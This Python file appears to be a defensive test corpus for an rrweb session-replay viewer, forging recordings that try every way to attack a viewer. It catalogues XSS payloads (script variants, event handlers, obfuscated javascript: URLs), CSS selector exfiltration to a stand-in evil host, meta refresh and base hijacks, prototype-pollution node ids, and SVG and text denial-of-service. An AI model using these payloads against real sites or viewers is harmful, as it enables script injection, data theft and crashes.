# ruff: noqa: E501 - forged markup and styles can be read on a line
"""The hostile corpus: one forged recording for each way in which a recording could harm who watches it.

Each generator takes a Forger, which makes nodes with ids of their own and an address for everything that would be
fetched, and answers rrweb events. What it would run is RUN.
"""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

from forged import RUN, Events, Forger, Node, mutation

START = 1_700_000_000_000
SVG: Node = {"isSVG": True}
MB = 1_000_000


def recording(
    forger: Forger, body: list[Node], changes: list[Node] | None = None, head: list[Node] | None = None
) -> Events:
    """A page of `body`, and `changes` 100 ms apart; a last event a second later gives it a length."""
    picture = {"node": forger.document(head or [], body), "initialOffset": {"left": 0, "top": 0}}
    events: Events = [
        {"type": 4, "timestamp": START, "data": {"href": "https://forged.example/", "width": 800, "height": 600}},
        {"type": 2, "timestamp": START + 1, "data": picture},
    ]
    for number, data in enumerate(changes or []):
        events.append({"type": 3, "timestamp": START + 300 + 100 * number, "data": data})
    last = {"source": 2, "type": 2, "id": forger.body, "x": 5, "y": 5}
    return [*events, {"type": 3, "timestamp": events[-1]["timestamp"] + 1_000, "data": last}]


def added(forger: Forger, *nodes: Node) -> list[Node]:
    """The same nodes once more, added by a change."""
    return [mutation(adds=[{"parentId": forger.body, "nextId": None, "node": node} for node in nodes])]


def both(forger: Forger, make: Callable[[], list[Node]]) -> Events:
    """In the page's first picture, and added later."""
    first, later = make(), make()
    events = recording(forger, first)
    return [*events[:-1], *recorded_later(forger, later), events[-1]]


def recorded_later(forger: Forger, nodes: list[Node]) -> Events:
    return [{"type": 3, "timestamp": START + 400, "data": added(forger, *nodes)[0]}]


def scripts(f: Forger) -> Events:
    """Script elements in every spelling, also within SVG, templates, noscript and frames."""
    n, t = f.node, f.text

    def make() -> list[Node]:
        return [
            n("script", {}, t(RUN)),
            n("SCRIPT", {"src": f.url("script")}),
            n("script", {"type": "module", "src": f.url("module")}),
            n("script", {"src": f"data:text/javascript,{RUN}"}),
            n(
                "svg",
                {},
                n("script", {"href": f.url("svg-script"), "xlink:href": f.url("svg-xlink")}, t(RUN), **SVG),
                **SVG,
            ),
            n("noscript", {}, n("script", {}, t(RUN))),
            n("template", {}, n("script", {}, t(RUN))),
            n("iframe", {"srcdoc": f"<script>{RUN}</script>"}),
            n("script><script", {}, t(RUN)),
            n("link", {"rel": "modulepreload", "href": f.url("modulepreload")}),
            n("div", {"is": "x-script", "rr_src": f.url("rr-src")}, t("a")),
        ]

    return both(f, make)


def handlers(f: Forger) -> Events:
    """Handlers of every kind of event that comes by itself or that a viewer could cause."""
    names = "load error click focus blur toggle begin end animationstart transitionend scroll pointerenter pageshow"
    names += (
        " beforeprint message storage unload wheel input change submit reset copy paste cuechange canplay loadstart"
    )

    def make() -> list[Node]:
        every = {f"on{name}": RUN for name in names.split()} | {"ONERROR": RUN, "onError\n": RUN, " onload": RUN}
        tags = (
            "img",
            "video",
            "audio",
            "input",
            "details",
            "svg",
            "body",
            "object",
            "embed",
            "iframe",
            "form",
            "marquee",
        )
        return [f.node(tag, {"src": "x:", "autofocus": True, "open": True, "tabindex": "1", **every}) for tag in tags]

    later = dict.fromkeys(("onclick", "onload", "onfocus"), RUN)
    events = both(f, make)
    change = mutation(attributes=[{"id": f.body, "attributes": later}])
    return [*events[:-1], {"type": 3, "timestamp": START + 500, "data": change}, events[-1]]


def javascript_urls(f: Forger) -> Events:
    """`javascript:` wherever an address can stand, plain, with white space, in capitals and by `data:`."""
    spelled = (
        "javascript:",
        " javascript:",
        "JaVaScRiPt:",
        "java\tscript:",
        "java\nscript:",
        "\x01javascript:",
        "vbscript:",
    )
    places = (("a", "href"), ("area", "href"), ("iframe", "src"), ("form", "action"), ("button", "formaction"))
    places += (
        ("object", "data"),
        ("embed", "src"),
        ("img", "src"),
        ("link", "href"),
        ("base", "href"),
        ("math", "href"),
    )

    def make() -> list[Node]:
        nodes = [f.node(tag, {name: start + RUN}, f.text("x")) for tag, name in places for start in spelled]
        nodes += [f.node(tag, {name: f"data:text/html,<script>{RUN}</script>"}) for tag, name in places]
        return [*nodes, f.node("svg", {}, f.node("a", {"xlink:href": "javascript:" + RUN}, f.text("x"), **SVG), **SVG)]

    return both(f, make)


def meta_refresh(f: Forger) -> Events:
    """Refreshes and policies by meta, in the head, in the body, and set later."""
    n = f.node

    def metas() -> list[Node]:
        return [
            n("meta", {"http-equiv": "refresh", "content": f"0;url={f.url('refresh')}"}),
            n("META", {"HTTP-EQUIV": "Refresh", "CONTENT": f"0; URL='{f.url('refresh')}'"}),
            n("meta", {"http-equiv": "refresh", "content": "0;url=javascript:" + RUN}),
            n("meta", {"http-equiv": "Content-Security-Policy", "content": "default-src * 'unsafe-inline'"}),
            n("meta", {"http-equiv": "set-cookie", "content": "forged=1"}),
            n("meta", {"name": "referrer", "content": "unsafe-url"}),
        ]

    empty = n("meta", {"name": "x"})
    change = {"http-equiv": "refresh", "content": f"0;url={f.url('late-refresh')}"}
    changes = [*added(f, *metas()), mutation(attributes=[{"id": empty["id"], "attributes": change}])]
    return recording(f, metas(), changes, head=[*metas(), empty])


def forms(f: Forger) -> Events:
    """Forms that would send what a viewer types or clicks, by every attribute that names where to."""
    n = f.node

    def make() -> list[Node]:
        return [
            n(
                "form",
                {"action": f.url("form"), "method": "post", "id": "form"},
                n("input", {"name": "a", "value": "b"}),
            ),
            n(
                "form",
                {"action": f.url("get"), "target": "_top"},
                n("button", {"formaction": f.url("formaction")}, f.text("go")),
            ),
            n(
                "form",
                {"method": "dialog", "action": f.url("dialog")},
                n("input", {"type": "image", "src": f.url("image")}),
            ),
            n("button", {"form": "form", "formaction": f.url("outside"), "formtarget": "_top"}, f.text("send")),
            n("isindex", {"action": f.url("isindex")}),
        ]

    return both(f, make)


def svg(f: Forger) -> Events:
    """SVG that fetches, runs or grows: images, uses, filters, animations of addresses, foreign objects, laughs."""
    n, t = f.node, f.text
    page = f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'><image href='{f.url('inner')}'/></svg>"

    def make() -> list[Node]:
        return [
            n(
                "svg",
                {"onload": RUN},
                n("image", {"href": f.url("image"), "xlink:href": f.url("xlink")}, **SVG),
                n("use", {"href": f.url("use") + "#x"}, **SVG),
                n("use", {"xlink:href": page + "#x"}, **SVG),
                n("feImage", {"href": f.url("feimage")}, **SVG),
                n("filter", {"id": "f"}, n("feImage", {"xlink:href": f.url("filter")}, **SVG), **SVG),
                n("rect", {"filter": f"url({f.url('filter-url')})", "fill": f"url('{f.url('fill')}#a')"}, **SVG),
                n("rect", {"mask": f"url({f.url('mask')})", "style": f"clip-path:url({f.url('clip')})"}, **SVG),
                n("a", {"href": "javascript:" + RUN}, n("text", {}, t("x"), **SVG), **SVG),
                n("animate", {"attributeName": "href", "to": f.url("animate"), "begin": "0s", "dur": "1s"}, **SVG),
                n("set", {"attributeName": "onmouseover", "to": RUN, "onbegin": RUN}, **SVG),
                n(
                    "foreignObject",
                    {},
                    n("iframe", {"src": f.url("foreign")}),
                    n("img", {"src": f.url("foreign-img")}),
                    **SVG,
                ),
                n("style", {}, t(f"@import '{f.url('svg-style')}';", isStyle=True), **SVG),
                n("handler", {"type": "text/javascript"}, t(RUN), **SVG),
                **SVG,
            ),
            n("img", {"src": page}),
            n("object", {"data": page, "type": "image/svg+xml"}),
            n("embed", {"src": page}),
        ]

    return both(f, make)


def laughing_svg(f: Forger) -> Events:
    """Eight pictures that each show the next twelve times: 430 million, if they were all drawn."""
    n = f.node

    def level(number: int, of: str) -> Node:
        inside = [n("use", {of: f"#laugh-{number + 1}"}, **SVG) for _ in range(12)] if number < 8 else []
        return n("g", {"id": f"laugh-{number}"}, *inside, n("circle", {"r": "1"}, **SVG), **SVG)

    def patterns(number: int) -> Node:
        inside = [
            n("rect", {"fill": f"url(#paint-{number + 1})", "width": "9", "height": "9"}, **SVG) for _ in range(12)
        ]
        size = {"width": "9", "height": "9", "patternUnits": "userSpaceOnUse"}
        return n("pattern", {"id": f"paint-{number}", **size}, *inside, **SVG)

    shown = n("svg", {}, *[level(number, "href") for number in range(9)], n("use", {"href": "#laugh-0"}, **SVG), **SVG)
    painted = n(
        "svg",
        {},
        *[patterns(number) for number in range(9)],
        n("rect", {"fill": "url(#paint-0)", "width": "99"}, **SVG),
        **SVG,
    )
    empty = n("g", {}, n("circle", {"r": "1"}, **SVG), **SVG)
    later = n("svg", {}, *[level(number, "xlink:href") for number in range(9)], empty, **SVG)
    named = mutation(attributes=[{"id": empty["id"], "attributes": {"id": "laugh-8"}}])
    return recording(f, [shown, painted], [*added(f, later), named])


def css_exfiltration(f: Forger) -> Events:
    """CSS that tells a server elsewhere what is in the page: attribute by attribute, by fonts, by every kind of address."""
    n, t = f.node, f.text

    def css() -> str:
        rules = [f"input[value^='{letter}'] {{ background: url({f.url('value-' + letter)}) }}" for letter in "abcdefgs"]
        rules += [f"@font-face {{ font-family: leak; src: url({f.url('font')}); unicode-range: U+41 }}"]
        rules += [f"@import url({f.url('import')});", f"@import '{f.url('import-text')}' layer(x);"]
        rules += [f"@im\\70ort '{f.url('escaped-import')}';", f"p {{ background: u\\72l({f.url('escaped')}) }}"]
        rules += [
            f"p {{ background: image-set('{f.url('set')}' 1x) }}",
            f"p {{ background: -webkit-image-set(url({f.url('wset')}) 1x) }}",
        ]
        rules += [f"p {{ background: cross-fade(url({f.url('fade')}), red) }}", f"@namespace x url({f.url('ns')});"]
        rules += [f":root {{ --leak: url({f.url('var')}) }} p {{ background: var(--leak) }}"]
        rules += [f"p::after {{ content: url({f.url('content')}) }}", f"p {{ cursor: url('{f.url('cursor')}'), auto }}"]
        rules += [f'@media (min-width: 1px) {{ p {{ border-image: url("{f.url("border")}") }} }}']
        rules += [f"@supports (color: red) {{ li {{ list-style: url(  {f.url('list')}  ) }} }}"]
        rules += [f"p {{ background: url(/* x */{f.url('comment')}) }}", f"p {{ -webkit-mask: url({f.url('mask')}) }}"]
        rules += [f"@property --p {{ syntax: '<url>'; inherits: true; initial-value: url({f.url('property')}) }}"]
        rules += [f"p {{ background: src('{f.url('src')}') }}", f"p {{ filter: url({f.url('filter')}#f) }}"]
        return "\n".join(rules)

    def make() -> list[Node]:
        return [
            n("input", {"value": "secret", "type": "text"}),
            n("p", {"style": f"background: url({f.url('style')}); --x: url({f.url('style-var')})"}, t("A")),
            n("style", {}, t(css(), isStyle=True)),
            n("style", {"_cssText": css()}),
            n("link", {"rel": "stylesheet", "_cssText": css(), "href": f.url("sheet")}),
            n("link", {"rel": "stylesheet", "href": f.url("sheet-alone")}),
        ]

    style = n("style", {}, t("p { color: red }", isStyle=True))
    text = {"id": style["childNodes"][0]["id"], "value": css()}
    rule = {"rule": f"p {{ background: url({f.url('rule')}) }}", "index": 0}
    sheet = {"styleId": 7, "rules": [{"rule": f"body {{ background: url({f.url('adopted')}) }}", "index": 0}]}
    declared = {"set": {"property": "background", "value": f"url({f.url('declared')})", "priority": "important"}}
    changes: list[Node] = [
        *added(f, *make()),
        mutation(texts=[text]),
        {"source": 8, "id": style["id"], "adds": [rule]},
        {"source": 8, "id": style["id"], "replaceSync": css()},
        {"source": 13, "id": style["id"], "index": [0], **declared},
        {"source": 15, "id": 1, "styleIds": [7], "styles": [sheet]},
        {"source": 10, "family": "leak", "fontSource": f"url({f.url('font-face')})", "buffer": False},
    ]
    return recording(f, [*make(), style], changes)


def base(f: Forger) -> Events:
    """A base that would lead every relative address, and every link, elsewhere."""
    n = f.node

    def make() -> list[Node]:
        return [
            n("base", {"href": f.evil + "/", "target": "_top"}),
            n("img", {"src": f"relative-{f.leaks}.png"}),
            n("a", {"href": "relative"}, f.text("x")),
            n("style", {}, f.text("body { background: url(relative.png) }", isStyle=True)),
            n("base", {"HREF": f.url("base")}),
        ]

    return recording(f, make(), added(f, *make()), head=make())


def objects_and_media(f: Forger) -> Events:
    """What embeds something of its own: objects, embeds, applets, frames, portals, film, sound, pictures, prefetching."""
    n = f.node

    def make() -> list[Node]:
        return [
            n("object", {"data": f.url("object"), "codebase": f.evil}, n("param", {"name": "movie", "value": f.url("param")})),
            n("object", {"classid": f.url("classid"), "archive": f.url("archive")}),
            n("embed", {"src": f.url("embed"), "pluginspage": f.url("plugins")}),
            n("applet", {"code": f.url("applet"), "archive": f.url("applet-archive")}),
            n("iframe", {"src": f.url("iframe"), "sandbox": "allow-scripts allow-top-navigation"}),
            n("iframe", {"srcdoc": f"<img src={f.url('srcdoc')}>"}),
            n("frameset", {}, n("frame", {"src": f.url("frame")})),
            n("portal", {"src": f.url("portal")}),
            n("fencedframe", {"src": f.url("fenced")}),
            n("img", {"src": f.url("img"), "srcset": f"{f.url('srcset')} 2x", "rr_dataURL": f.url("data-url"), "lowsrc": f.url("low")}),
            n("picture", {}, n("source", {"srcset": f.url("picture")}), n("img", {})),
            n("video", {"src": f.url("video"), "poster": f.url("poster"), "autoplay": True, "rr_mediaState": "played"}),
            n("audio", {"src": f.url("audio"), "preload": "auto"}, n("source", {"src": f.url("source")}), n("track", {"src": f.url("track"), "default": True})),
            n("canvas", {"rr_dataURL": f.url("canvas")}),
            n("table", {"background": f.url("table")}, n("td", {"background": f.url("cell")})),
            n("a", {"href": f.url("link"), "ping": f.url("ping"), "target": "_top", "attributionsrc": f.url("attribution")}, f.text("x")),
            *[n("link", {"rel": rel, "href": f.url(rel), "as": "image"}) for rel in (
                "preload", "prefetch", "prerender", "dns-prefetch", "preconnect", "icon", "manifest", "import", "alternate stylesheet",
            )],
        ]  # fmt: skip

    return both(f, make)


def forged_node_ids(f: Forger) -> Events:
    """Ids that come twice, lead to themselves, to the document, to nothing, or are no ids; nodes that hold themselves."""
    n, t = f.node, f.text
    twin = n("div", {}, t("twin"))
    again = {**n("p", {}, t("again")), "id": twin["id"]}
    odd: list[Any] = [0, -1, 1e308, 2**53, 1.5, "7", None, True, {}, [], "__proto__", "constructor"]
    strange = [{**n("i", {}), "id": value} for value in odd]
    inner = n("b", {})
    itself = {"parentId": inner["id"], "nextId": None, "node": {**n("u", {}), "id": inner["id"]}}
    circle = [
        {"parentId": 90_002, "nextId": None, "node": {**n("u", {}), "id": 90_001}},
        {"parentId": 90_001, "nextId": None, "node": {**n("u", {}), "id": 90_002}},
    ]
    waiting = [
        {
            "parentId": f.body,
            "nextId": 91_000 + (number + 1) % 50,
            "previousId": -1,
            "node": {**n("u", {}), "id": 91_000 + number},
        }
        for number in range(50)
    ]
    to = [{"parentId": value, "nextId": value, "previousId": value, "node": n("s", {})} for value in odd]
    polluted = {"__proto__": {"polluted": "yes"}, "constructor": {"prototype": {"polluted": "yes"}}}
    changes: list[Node] = [
        mutation(adds=[itself, *circle]),
        mutation(adds=waiting),
        mutation(adds=to),
        mutation(adds=[{"parentId": 1, "nextId": None, "node": n("html", {}, n("body", {}))}]),
        mutation(adds=[{"parentId": f.body, "nextId": None, "node": {"type": 0, "id": 1, "childNodes": []}}]),
        mutation(removes=[{"parentId": value, "id": value} for value in odd]),
        mutation(removes=[{"parentId": 1, "id": f.html}, {"parentId": f.body, "id": 1}]),
        mutation(attributes=[{"id": value, "attributes": polluted} for value in [f.body, *odd]]),
        mutation(texts=[{"id": value, "value": "x"} for value in [f.body, 1, *odd]]),
        *[{"source": source, "id": value} for source in range(20) for value in odd],
        *[{"source": 2, "type": kind, "id": value, "x": 1, "y": 1} for kind in range(12) for value in (f.body, 99_999)],
        {"source": 1, "positions": [{"x": 1e308, "y": -1e308, "id": f.body, "timeOffset": -1e15}]},
        {"source": 14, "ranges": [{"start": value, "startOffset": 9, "end": value, "endOffset": -9} for value in odd]},
    ]
    return recording(f, [twin, again, *strange, inner], changes)


def vast_text(f: Forger) -> Events:
    """100 MB of text: in one node, in many, in attributes, in CSS, and added later."""
    n, t = f.node, f.text
    word = "lorem ipsum " * 8
    long = word * (20 * MB // len(word))
    unbroken = "x" * (20 * MB)
    many = [n("p", {"title": word * 50}, t(word * 50)) for _ in range(3_000)]
    css = "p { color: red } " * (10 * MB // 17)
    late = t(long)
    return recording(
        f,
        [n("p", {}, t(long)), n("pre", {}, t(unbroken)), n("textarea", {"value": unbroken[: 10 * MB]}), *many,
         n("style", {}, t(css, isStyle=True))],
        [*added(f, n("p", {}, late)), mutation(texts=[{"id": late["id"], "value": long}])],
    )  # fmt: skip


def everything(f: Forger) -> Events:
    """All that runs or fetches on one page, then on a second."""
    return f.events()


CORPUS: dict[str, Callable[[Forger], Events]] = {
    made.__name__: made
    for made in (
        scripts, handlers, javascript_urls, meta_refresh, forms, svg, laughing_svg, css_exfiltration, base, objects_and_media,
        forged_node_ids, vast_text, everything,
    )
}  # fmt: skip
